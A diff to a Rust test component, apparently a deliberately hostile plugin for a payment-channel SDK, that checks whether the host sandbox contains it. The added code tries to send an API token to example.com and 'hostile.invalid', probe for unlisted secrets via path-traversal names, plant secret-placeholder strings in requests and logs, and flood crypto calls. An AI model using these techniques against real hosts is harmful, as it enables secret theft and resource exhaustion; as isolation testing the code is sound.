@@ -5,8 +5,9 @@
 
 use saoma_channel_sdk::{
     Account, BillPage, Cadence, Capability, Claim, Created, DigitClaim, Error, Guest, HostPattern, HttpMessage,
-    Manifest, Money, NotificationError, NotificationOutcome, Order, PaymentAnswer, PaymentStatus, RefundAnswer,
-    RefundOrder, Request, hmac_hex, kv, log, no_answer, not_sent, random, settings,
+    KnownOrder, Manifest, Money, NotificationError, NotificationOutcome, Order, PaymentAnswer, PaymentStatus,
+    RefundAnswer, RefundOrder, Request, SecretKind, SecretSpec, aes_gcm_open, hmac_hex, kv, log, no_answer, not_sent,
+    random, rsa_sign, rsa_verifies, rsa_verifies_with, settings,
 };
 use serde::Deserialize;
 
@@ -38,6 +39,13 @@ enum Mode {
     WrongCurrency,
     DeniesSending,
     TellsCode,
+    SecretsByText,
+    SecretElsewhere,
+    SecretEcho,
+    WrongKind,
+    Oversize,
+    SignFlood,
+    VerifyFlood,
 }
 
 /// `describe` is asked before there are settings, so this text, altered in a copy of the component, is its mode: `quiet`,
@@ -67,7 +75,11 @@ impl Guest for Hostile {
                 length_max: 18,
             })],
             settings_schema: include_str!("../settings.schema.json").to_owned(),
-            secrets: Vec::new(),
+            secrets: vec![
+                spec(SIGNING_KEY, SecretKind::RsaPrivateKey),
+                spec(TOKEN, SecretKind::Text),
+                spec("seal-key", SecretKind::Aes256Key),
+            ],
             hosts: vec![HostPattern::Setting("base_url".to_owned())],
             cadence: Cadence { call_timeout_ms: 1_000, query_interval_ms: 1_000, reverse_after_ms: 5_000 },
             bills: None,
@@ -87,13 +99,13 @@ impl Guest for Hostile {
         }
     }
 
-    fn query(account: Account, number: String) -> Result<PaymentAnswer, Error> {
-        Ok(answer(misbehave(&account)?, number, None))
+    fn query(account: Account, order: KnownOrder) -> Result<PaymentAnswer, Error> {
+        Ok(answer(misbehave(&account)?, order.number, None))
     }
 
-    fn cancel(account: Account, number: String) -> Result<PaymentAnswer, Error> {
+    fn cancel(account: Account, order: KnownOrder) -> Result<PaymentAnswer, Error> {
         let mode = misbehave(&account)?;
-        Ok(PaymentAnswer { status: PaymentStatus::Closed, ..answer(mode, number, None) })
+        Ok(PaymentAnswer { status: PaymentStatus::Closed, ..answer(mode, order.number, None) })
     }
 
     fn refund(_: Account, _: RefundOrder) -> Result<RefundAnswer, Error> {
@@ -140,6 +152,19 @@ fn misbehave(account: &Account) -> Result<Mode, Error> {
             // Short of its own deadline by far, so that it lives to tell the lie.
             let _ = Request::new("GET", base_url, 300).send();
             return Err(not_sent("nothing left this machine"));
+        }
+        Mode::SecretsByText => return Err(by_text(&base_url)),
+        Mode::SecretElsewhere => return Err(sent(token(Request::new("GET", "https://example.com/", 900)))),
+        Mode::SecretEcho => return Err(sent(token(Request::new("GET", base_url, 900)))),
+        Mode::WrongKind => return Err(wrong_kinds(&base_url)),
+        Mode::Oversize => return Err(oversize()),
+        Mode::SignFlood => return Err(flood(|| rsa_sign(SIGNING_KEY, b"again").map(drop))),
+        Mode::VerifyFlood => {
+            let key = random::bytes(1_024);
+            return Err(flood(|| match rsa_verifies_with(&key, b"again", "") {
+                Err(Error::NoAnswer(why)) if why.starts_with("the key") => Ok(()),
+                other => other.map(drop),
+            }));
         }
         Mode::Honest
         | Mode::HugeAnswer
@@ -196,7 +221,11 @@ fn descend(depth: u64) -> u64 {
 }
 
 fn visit(url: &str) -> Error {
-    match Request::new("GET", url, 900).send() {
+    sent(Request::new("GET", url, 900))
+}
+
+fn sent(request: Request) -> Error {
+    match request.send() {
         Ok(reply) => no_answer(format!("it got out: status {}", reply.status)),
         Err(error) => error,
     }
@@ -205,13 +234,88 @@ fn visit(url: &str) -> Error {
 /// Looks for secrets that its manifest does not list, and for a way to tell which names exist.
 fn probe() -> Error {
     for name in ["merchant-key", "", "../merchant-key", "MERCHANT-KEY", "master-key"] {
-        match hmac_hex(name, b"probe") {
-            Ok(tag) => return no_answer(format!("it used the secret {name:?}: {tag}")),
-            Err(Error::Misconfigured(why)) if why == format!("the secret {name:?} is missing") => {}
-            Err(other) => return other,
+        let request = Request::new("GET", "https://hostile.invalid/", 900).secret_header("x-key", "", name);
+        for used in [hmac_hex(name, b"probe"), rsa_sign(name, b"probe")] {
+            match used {
+                Ok(tag) => return no_answer(format!("it used the secret {name:?}: {tag}")),
+                Err(Error::Misconfigured(why)) if why == format!("the secret {name:?} is missing") => {}
+                Err(other) => return other,
+            }
+        }
+        if request.send().is_ok() {
+            return no_answer(format!("it sent the secret {name:?}"));
         }
     }
     not_sent("no secret was found")
+}
+
+const SIGNING_KEY: &str = "signing-key";
+const TOKEN: &str = "api-token";
+
+fn spec(name: &str, kind: SecretKind) -> SecretSpec {
+    SecretSpec { name: name.to_owned(), kind, description: String::new() }
+}
+
+fn token(request: Request) -> Request {
+    request.secret_header("authorization", "Bearer ", TOKEN)
+}
+
+/// Hopes that the host puts secrets in wherever their names stand: in an address, a header, a body, a line of the log.
+fn by_text(base_url: &str) -> Error {
+    let named = "{api-token} {{secret:api-token}} ${api-token} %{api-token}";
+    log::write(log::Level::Info, named);
+    sent(
+        Request::new("POST", format!("{base_url}/?q={{api-token}}"), 900)
+            .header("x-token", named)
+            .body("text/plain", named),
+    )
+}
+
+/// Uses every secret for what it is not.
+fn wrong_kinds(base_url: &str) -> Error {
+    let request = || Request::new("GET", base_url, 900);
+    let tried = [
+        hmac_hex(TOKEN, b"m").map(drop),
+        hmac_hex(SIGNING_KEY, b"m").map(drop),
+        rsa_sign(TOKEN, b"m").map(drop),
+        rsa_verifies(SIGNING_KEY, None, b"m", "").map(drop),
+        aes_gcm_open(TOKEN, &[0; 12], b"", "").map(drop),
+        request().secret_header("x-key", "", SIGNING_KEY).send().map(drop),
+        request().basic("me", SIGNING_KEY).send().map(drop),
+        request().client_certificate(TOKEN).send().map(drop),
+        request().server_certificates(SIGNING_KEY).send().map(drop),
+    ];
+    for (idx, outcome) in tried.into_iter().enumerate() {
+        match outcome {
+            Err(Error::Misconfigured(why)) if why.contains("of another kind") => {}
+            other => return no_answer(format!("try {idx}: {other:?}")),
+        }
+    }
+    not_sent("no secret was of use")
+}
+
+fn oversize() -> Error {
+    let large = vec![0; (1 << 20) + 1];
+    let tried = [
+        hmac_hex("signing-key", &large).map(drop),
+        rsa_sign(SIGNING_KEY, &large).map(drop),
+        rsa_verifies_with(&large, b"m", "").map(drop),
+        aes_gcm_open("seal-key", &[0; 12], &large, "").map(drop),
+        aes_gcm_open("seal-key", &[0; 13], b"", "").map(drop),
+        Request::new("GET", "https://example.com/", 900).answer_bytes_max((1 << 20) + 1).send().map(drop),
+    ];
+    for (idx, outcome) in tried.into_iter().enumerate() {
+        if outcome.is_ok() {
+            return no_answer(format!("try {idx} was done"));
+        }
+    }
+    not_sent("nothing was done")
+}
+
+/// How often the host does it, until it does not.
+fn flood(work: impl Fn() -> Result<(), Error>) -> Error {
+    let n = (0..1_000_000).take_while(|_| work().is_ok()).count();
+    not_sent(format!("{n} times"))
 }
 
 fn flood_store() {
